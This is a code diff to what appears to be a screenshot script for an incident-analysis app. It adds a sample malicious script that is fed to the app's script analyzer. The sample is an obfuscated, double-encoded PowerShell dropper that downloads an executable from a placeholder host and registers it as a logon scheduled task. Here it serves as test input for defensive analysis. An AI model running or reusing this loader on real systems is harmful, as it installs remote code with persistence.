@@ -36,6 +36,16 @@ try {
   await shoot('summary-dark', '/incidents/:id', { colorScheme: 'dark' });
   await shoot('citation', '/incidents/:id', { act: (page) => page.getByTestId('summary-card').locator('[data-section="story"] [data-fact]').first().click() });
   await shoot('timeline', '/incidents/:id/timeline');
+  const inner = "$u = 'http://cdn.exam'+'ple.test/get/update.exe'; (New-Object Net.WebClient).DownloadFile($u, \"$env:TEMP\\upd.exe\"); schtasks /create /tn Updater /tr \"$env:TEMP\\upd.exe\" /sc onlogon /f";
+  const script = `@echo off\r\nset a=power\r\nset b=shell\r\n%a%%b% -nop -w hidden -enc ${Buffer.from(`IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${Buffer.from(inner).toString('base64')}')))`, 'utf16le').toString('base64')}\r\n`;
+  const submit = async (page) => {
+    await page.getByRole('textbox', { name: 'Script' }).fill(script);
+    await page.getByRole('button', { name: 'Analyze', exact: true }).click();
+    await page.getByRole('region', { name: 'Facts' }).waitFor({ timeout: 30_000 });
+  };
+  await shoot('script', '/scripts', { act: submit });
+  await shoot('script-dark', '/scripts', { colorScheme: 'dark', act: submit });
+  await shoot('scripts', '/scripts');
   await shoot('phone', '/incidents/:id', { width: 390, height: 844 });
 } finally {
   await browser.close();
